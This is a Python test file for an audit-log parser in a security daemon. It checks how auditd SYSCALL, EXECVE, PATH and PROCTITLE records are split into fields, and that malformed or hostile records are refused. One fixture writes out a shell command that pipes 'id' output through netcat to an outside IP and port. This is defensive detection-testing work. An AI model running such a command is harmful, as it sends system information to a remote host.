"""The shapes decide nothing: what they take apart is what reading record by record gives, all else they refuse."""

import random  # noqa: TID251 - seeded logs

import pytest
from hypothesis import given
from hypothesis import strategies as st

from daemon.events.audit_shape import SERIAL, SHAPE, TITLE, Shape, decode_title, path_names, split_arguments
from daemon.events.audit_values import to_text
from daemon.events.auditd import Record, decode_execve, decode_record, parse_record
from daemon.model import Position
from tests.doubles.any_audit import AnyAudit
from tests.doubles.audit_lines import execve

HEAD = b"type=EXECVE msg=audit(1.1:1): argc=1 "
ALONE = (
    b'type=USER_LOGIN msg=audit(1795252500.400:5): pid=8 uid=0 auid=1000 ses=1 msg=\'op=login acct="x" '
    b'exe="/usr/sbin/sshd" hostname=? addr=192.0.2.1 terminal=ssh res=failed\'\n'
)
FULL = (
    b"type=SYSCALL msg=audit(1.1:7): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=2 ppid=2 pid=3 "
    b"auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=7 "
    b'comm="c" exe="/bin/c" subj=unconfined key="k"\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="alice" GID="x"\n'
    b'type=EXECVE msg=audit(1.1:7): argc=1 a0="c"\n'
    b"type=SOCKADDR msg=audit(1.1:7): saddr=0200\x1dSADDR={ x }\n"
    b'type=CWD msg=audit(1.1:7): cwd="/r"\n'
    b'type=PATH msg=audit(1.1:7): item=0 name="/bin/c" inode=1 nametype=NORMAL\x1dOUID="root"\n'
    b"type=PROCTITLE msg=audit(1.1:7): proctitle=63\n"
)


def record_of(line: bytes) -> Record:
    found = parse_record(line, Position("", "", 0))
    assert found is not None
    return found


def test_a_call_is_taken_apart() -> None:
    found = SHAPE.fullmatch(FULL)
    assert found is not None
    assert found.lastindex == TITLE
    shape = Shape(*found.groups())
    assert (shape.call_stamp, shape.call_serial, shape.pid, shape.ppid) == (b"1.1", b"7", b"3", b"2")
    assert (shape.exe, shape.key, shape.name, shape.user) == (b"/bin/c", b'"k"', b"execve", b"alice")
    assert (shape.argc, shape.arguments, shape.saddr, shape.cwd) == (b"1", b'a0="c"', b"0200", b"/r")
    assert path_names(shape.paths) == [(True, b"/bin/c")]
    assert shape.title == b"63"


def test_a_record_that_stands_alone_is_taken_apart() -> None:
    found = SHAPE.fullmatch(ALONE)
    assert found is not None
    assert (found.lastindex, found[SERIAL]) == (SERIAL, b"5")


def test_the_usual_start_of_a_program_has_the_shape_in_both_formats() -> None:
    for lines in ([FULL], [FULL.replace(b'\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="alice" GID="x"', b"")]):
        assert SHAPE.fullmatch(lines[0]) is not None


@pytest.mark.parametrize(
    ("old", "new"),
    [
        pytest.param(b"type=PROCTITLE msg=audit(1.1:7)", b"type=PROCTITLE msg=audit(1.1:8)", id="another serial"),
        pytest.param(b"type=CWD msg=audit(1.1:7)", b"node=x type=CWD msg=audit(1.1:7)", id="another node"),
        pytest.param(b":7)", b":07)", id="a serial as nobody writes it"),
        pytest.param(b'exe="/bin/c"', b"exe=2F62", id="a program in hex"),
        pytest.param(b'exe="/bin/c"', b'exe="/bin/c d"', id="a blank in a program"),
        pytest.param(b'exe="/bin/c"', b'exe="/bin/\x1dc"', id="a separator in a program"),
        pytest.param(b'exe="/bin/c"', b'exe="c"', id="a program without a path"),
        pytest.param(b'key="k"', b"key=616201", id="keys in hex"),
        pytest.param(b'UID="alice" GID', b'UID="?" GID', id="a user without a name"),
        pytest.param(b'UID="alice" GID', b'UID="(none)" GID', id="a user that is none"),
        pytest.param(b"a0=1 ", b'a0="1 ', id="a quote that does not end"),
        pytest.param(b"tty=pts0", b"tty=pts0ARCH=x", id="a key inside a value"),
        pytest.param(b'name="/bin/c"', b"name=2F", id="a path in hex"),
        pytest.param(b'name="/bin/c"', b'name="/bin/\x01"', id="a control in a path"),
        pytest.param(b'name="/bin/c"', b'name="/bin/ c"', id="a blank in a path"),
        pytest.param(b'name="/bin/c"', b'name="/bin/\x1dc"', id="a separator in a path"),
        pytest.param(b'key="k"', b'key="k k"', id="a blank in a key"),
        pytest.param(b'cwd="/r"', b'cwd="/r r"', id="a blank in a directory"),
        pytest.param(b'OUID="root"\n', b'OUID="root"\r\n', id="CR LF after names"),
        pytest.param(b"proctitle=63\n", b"proctitle=63\r\n", id="CR LF after a title"),
        pytest.param(b'a0="c"\n', b'a0="c"\r\n', id="CR LF after arguments"),
        pytest.param(b"SADDR={ x }\n", b"SADDR={ x }\r\n", id="CR LF after an address"),
        pytest.param(b'cwd="/r"\n', b'cwd="/r"\n\n', id="an empty line"),
        pytest.param(b"proctitle=63\n", b"proctitle=63", id="a line that is cut"),
    ],
)
def test_what_looks_otherwise_is_refused(old: bytes, new: bytes) -> None:
    assert FULL.count(old) >= 1
    assert SHAPE.fullmatch(FULL.replace(old, new)) is None


def test_a_path_behind_which_the_line_ends_in_cr_lf_is_refused() -> None:
    raw = FULL.replace(b'nametype=NORMAL\x1dOUID="root"\n', b"nametype=NORMAL\n")
    assert SHAPE.fullmatch(raw) is not None
    assert SHAPE.fullmatch(raw.replace(b"NORMAL\n", b"NORMAL\r\n")) is None


@pytest.mark.parametrize("acct", [b'"x\x1d"', b"7861", b'"x"y"'])
def test_a_record_of_a_program_with_hostile_text_is_refused(acct: bytes) -> None:
    assert SHAPE.fullmatch(ALONE.replace(b'acct="x"', b"acct=" + acct)) is None
    assert SHAPE.fullmatch(ALONE.replace(b'exe="/usr/sbin/sshd"', b'exe="/usr/sbin/ sshd"')) is None


@given(st.integers(0, 5000))
def test_a_shape_holds_one_event_from_the_beginning_of_a_line_to_the_end_of_one(seed: int) -> None:
    data = b"".join(line + b"\n" for line in AnyAudit(random.Random(seed)).lines(6))  # noqa: S311 - a seeded log
    for found in SHAPE.finditer(data):
        records = [record_of(line) for line in found[0].split(b"\n")[:-1]]
        assert len({(record.node, record.stamp, record.serial) for record in records}) == 1
        assert found.start() == 0 or data[found.start() - 1 : found.start()] == b"\n"
        assert found[0].endswith(b"\n")
        if found.lastindex == SERIAL:
            assert len(records) == 1
            continue
        shape = Shape(*found.groups())
        call, title = decode_record(records[0]).fields, decode_record(records[-1]).fields["proctitle"]
        assert [to_text(one) for one in (shape.exe, shape.pid, shape.ppid, shape.uid)] == [
            call[key] for key in ("exe", "pid", "ppid", "uid")
        ]
        assert call["key"] == to_text(shape.key.strip(b'"'))
        decoded = decode_title(shape.title)
        assert decoded is None or to_text(decoded) == title
        names = [decode_record(record).fields for record in records if record.kind == "PATH"]
        named = [(one["item"] == "0", one["name"]) for one in names if one["name"] != "(null)"]
        assert [(first, to_text(name)) for first, name in path_names(shape.paths) if name != b"(null)"] == named


said = st.lists(
    st.one_of(
        st.binary(max_size=9).map(lambda raw: raw.hex().upper().encode()),
        st.binary(max_size=9).map(lambda raw: b'"%s"' % raw.replace(b'"', b"").replace(b"\n", b"").replace(b"\r", b"")),
        st.sampled_from([b"bare", b"BARE", b"", b'"', b"a'b", b'"a" b', b"41 42", b'"a1="', b"4"]),
    ),
    max_size=14,
)


@given(said, st.sampled_from([b" ", b"  "]))
def test_arguments_are_those_of_the_record(values: list[bytes], between: bytes) -> None:
    body = between.join(b"a%d=%s" % one for one in enumerate(values))
    split = split_arguments(body)
    if split is not None:
        decoded, arguments = decode_execve([record_of(HEAD + body)])
        assert tuple(map(to_text, split[0])) == arguments
        assert HEAD.decode() + to_text(split[1]) == decoded.text


@pytest.mark.parametrize(
    "body", [b'a1="x" a0="y"', b'a0="x" a0="y"', b'a0="x"  a1="y"', b"a0[0]=41 a0[1]=42", b'a0_len=4 a0="x"', b'a0="x']
)
def test_arguments_in_another_order_are_refused(body: bytes) -> None:
    assert split_arguments(body) is None


def test_most_arguments_are_split() -> None:
    lines = execve(1, "sh", "-c", "id | nc 203.0.113.9 4444", "é")
    body = lines[1].partition("argc=4 ")[2].encode()
    split = split_arguments(body)
    assert split is not None
    assert [one.decode() for one in split[0]] == ["sh", "-c", "id | nc 203.0.113.9 4444", "é"]


def test_titles() -> None:
    assert decode_title(b'"a b"') == b"a b"
    assert decode_title(b"6C73002D6C0000") == b"ls -l"
    assert decode_title(b"6C7") is None
